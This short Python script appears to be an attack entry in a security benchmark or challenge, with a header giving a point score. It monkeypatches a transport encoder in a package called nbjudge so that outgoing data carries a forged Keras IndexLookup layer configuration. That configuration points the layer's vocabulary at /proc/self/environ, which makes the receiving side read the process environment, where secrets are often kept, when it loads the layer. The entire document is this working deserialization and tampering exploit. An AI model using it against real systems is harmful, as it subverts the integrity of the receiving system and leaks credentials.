# why: a forged Keras configuration with a layer that reads a file for its vocabulary
# earns: 7
import json
import msgpack
from nbjudge.engine.transport.values import Encoder

config = {"module": "keras.src.layers.preprocessing.index_lookup", "class_name": "IndexLookup",
          "registered_name": "IndexLookup", "config": {
              "max_tokens": None, "num_oov_indices": 1, "mask_token": None, "oov_token": "x",
              "vocabulary_dtype": "string", "vocabulary": "/proc/self/environ"}}

honest_tree = Encoder.tree

def forged(self, values):
    named = msgpack.unpackb(honest_tree(self, values), raw=False, strict_map_key=False)
    named["decoded"] = ["keras", json.dumps(config)]
    return msgpack.packb(named)

Encoder.tree = forged
decoded = 0
